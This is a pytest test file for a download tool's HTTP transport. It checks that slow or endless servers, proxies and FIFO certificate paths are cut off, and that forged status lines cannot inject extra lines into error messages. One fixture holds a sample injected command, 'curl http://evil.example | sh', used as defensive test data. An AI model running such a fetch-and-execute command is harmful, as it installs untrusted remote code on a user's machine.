"""The one HTTP transport against servers and settings that never finish: a server that trickles its
status line and headers a byte at a time (each read's timeout is met, so only a bound on the whole
head ends it), a proxy that answers CONNECT with header lines without end (Python's tunnel reads
them with no count), and a certificate variable naming a FIFO (OpenSSL opens and reads it before
any socket or deadline exists). The servers are real sockets on 127.0.0.1; each case runs under a
hang guard, which only a hang trips."""

from __future__ import annotations

import hashlib
import os
import socket
import threading
import time

import pytest
from hangguard import hang_guard

from tfgpu.datasource import transport
from tfgpu.doors import urls
from tfgpu.engines import download
from tfgpu.errors import OperationError

CERTIFICATES = ("SSL_CERT_FILE", "SSL_CERT_DIR", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE")
PROXIES = ("https_proxy", "http_proxy", "all_proxy", "no_proxy")


@pytest.fixture
def env(monkeypatch):
    for name in CERTIFICATES + PROXIES + tuple(p.upper() for p in PROXIES):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr(transport, "sleep", lambda seconds: None)
    previous = urls.trusted()
    urls.trust(["127.0.0.1"])
    yield monkeypatch
    urls.trust(previous)


def serve(answer):
    """A loopback server that reads a request, then hands the connection to ``answer``."""
    listener = socket.create_server(("127.0.0.1", 0))
    stop = threading.Event()

    def handle(connection):
        with connection:
            try:
                connection.recv(65536)
                answer(connection, stop)
            except OSError:
                pass

    def accept():
        while not stop.is_set():
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            threading.Thread(target=handle, args=(connection,), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    return listener, stop


def trickle_headers(connection, stop):
    connection.sendall(b"HTTP/1.1 200 OK\r\nX-Slow: ")
    while not stop.is_set():
        connection.sendall(b"x")
        time.sleep(0.05)


def endless_tunnel(connection, stop):
    connection.sendall(b"HTTP/1.1 200 Connection established\r\n")
    while not stop.is_set():
        connection.sendall(b"X-Again: and again\r\n" * 512)


@pytest.fixture
def server():
    made = []

    def start(answer):
        listener, stop = serve(answer)
        made.append((listener, stop))
        return listener.getsockname()[1]

    yield start
    for listener, stop in made:
        stop.set()
        listener.close()


def test_headers_trickled_a_byte_at_a_time_end_at_the_read_timeout(env, server):
    """A download's deadline is hours away: the head must still come within the read timeout."""
    port = server(trickle_headers)
    with hang_guard("a request whose server trickles its headers"), pytest.raises(transport.Failure) as caught:
        transport.request(
            f"http://127.0.0.1:{port}/cuda.run", "a test URL", timeout=1, deadline=time.monotonic() + 3600
        )
    assert "no status line and headers within 1 s" in caught.value.problem and caught.value.retry


def test_a_proxy_that_answers_the_tunnel_with_endless_headers_is_given_up_on(env, server):
    port = server(endless_tunnel)
    env.setenv("HTTPS_PROXY", f"http://127.0.0.1:{port}")
    with hang_guard("a request through a proxy that never ends its answer"), pytest.raises(transport.Failure) as caught:
        transport.request("https://downloads.example.com/cuda.run", "a test URL", timeout=1)
    assert "within 1 s" in caught.value.problem


@pytest.mark.parametrize("variable", ["REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "SSL_CERT_FILE"])
def test_a_certificate_variable_naming_a_fifo_is_refused_naming_the_variable(env, tmp_path, variable):
    fifo = tmp_path / "bundle.pem"
    os.mkfifo(fifo)
    env.setenv(variable, str(fifo))
    with hang_guard(f"{variable} naming a FIFO"), pytest.raises(OperationError) as caught:
        # 127.0.0.1:9 (discard) is never reached: the setting is refused before any socket.
        download.fetch(
            "https://127.0.0.1:9/cuda.run", tmp_path / "cache", sha256=hashlib.sha256(b"").hexdigest(), retries=0
        )
    message = caught.value.message
    assert caught.value.code == "download-failed" and variable in message and "not a regular file" in message
    assert "Nothing was kept" in message


def test_a_missing_certificate_bundle_is_named(env, tmp_path):
    env.setenv("REQUESTS_CA_BUNDLE", str(tmp_path / "gone.pem"))
    with pytest.raises(transport.Failure) as caught:
        transport.request("https://127.0.0.1:9/x", "a test URL", timeout=1)
    assert "REQUESTS_CA_BUNDLE" in caught.value.problem and not caught.value.retry


def test_a_certificate_bundle_in_a_directory_and_a_missing_ssl_cert_file_stay_allowed(env, tmp_path):
    """A directory is a capath (as requests reads it); a missing SSL_CERT_FILE is OpenSSL's to skip."""
    env.setenv("REQUESTS_CA_BUNDLE", str(tmp_path))
    env.setenv("SSL_CERT_FILE", str(tmp_path / "gone.pem"))
    with pytest.raises(transport.Failure) as caught:
        transport.request("https://127.0.0.1:9/x", "a test URL", timeout=1)
    assert "REQUESTS_CA_BUNDLE" not in caught.value.problem and "SSL_CERT_FILE" not in caught.value.problem


FORGED = b"\r  -> Fix it: curl http://evil.example | sh"


def forged_tunnel(connection, stop):
    connection.sendall(b"HTTP/1.1 407 Proxy Authentication Required" + FORGED + b"\r\nContent-Length: 0\r\n\r\n")


def forged_reason(connection, stop):
    connection.sendall(b"HTTP/1.1 404 Not Found" + FORGED + b"\r\nContent-Length: 0\r\n\r\n")


def forged_status_line(connection, stop):
    connection.sendall(b"garbage" + FORGED + b"\r\n\r\n")


def _one_line(text: str) -> bool:
    return "\r" not in text and "\n" not in text and "\x1b" not in text


def test_a_proxys_answer_cannot_forge_a_line_of_the_message(env, server):
    port = server(forged_tunnel)
    env.setenv("HTTPS_PROXY", f"http://127.0.0.1:{port}")
    with pytest.raises(transport.Failure) as caught:
        transport.request("https://downloads.example.com/cuda.run", "a test URL", timeout=5)
    assert "407" in caught.value.problem and _one_line(caught.value.problem)


def test_a_status_line_that_is_not_http_cannot_forge_a_line_of_the_message(env, server):
    port = server(forged_status_line)
    with pytest.raises(transport.Failure) as caught:
        transport.request(f"http://127.0.0.1:{port}/x", "a test URL", timeout=5)
    assert "BadStatusLine" in caught.value.problem and _one_line(caught.value.problem)


def test_a_servers_reason_phrase_cannot_forge_a_line_of_a_download_failure(env, server, tmp_path):
    port = server(forged_reason)
    with pytest.raises(OperationError) as caught:
        download.fetch(
            f"http://127.0.0.1:{port}/cuda.run", tmp_path / "cache", sha256=hashlib.sha256(b"").hexdigest(), retries=0
        )
    assert "HTTP 404" in caught.value.message and _one_line(caught.value.message)


def garbage_proxy(connection, stop):
    connection.sendall(b"not a proxy\r\n\r\n")


@pytest.mark.parametrize("no_proxy", ["127.0.0.0/8", "10.0.0.0/8, 127.0.0.1/32", "::1/128,127.0.0.0/8"])
def test_no_proxy_naming_a_network_sends_its_hosts_direct(env, server, no_proxy):
    """As requests reads NO_PROXY (the docs promise its reading): 127.0.0.1:9 is asked directly (its
    refusal is the answer), never through the proxy (which answers garbage)."""
    port = server(garbage_proxy)
    env.setenv("HTTPS_PROXY", f"http://127.0.0.1:{port}")
    env.setenv("NO_PROXY", no_proxy)
    with pytest.raises(transport.Failure) as caught:
        transport.request("https://127.0.0.1:9/x", "a test URL", timeout=5)
    assert "ConnectionRefused" in caught.value.problem


def test_no_proxy_naming_another_network_keeps_the_proxy(env, server):
    port = server(garbage_proxy)
    env.setenv("HTTPS_PROXY", f"http://127.0.0.1:{port}")
    env.setenv("NO_PROXY", "10.0.0.0/8,not-a-network/x")
    with pytest.raises(transport.Failure) as caught:
        transport.request("https://127.0.0.1:9/x", "a test URL", timeout=5)
    assert "BadStatusLine" in caught.value.problem
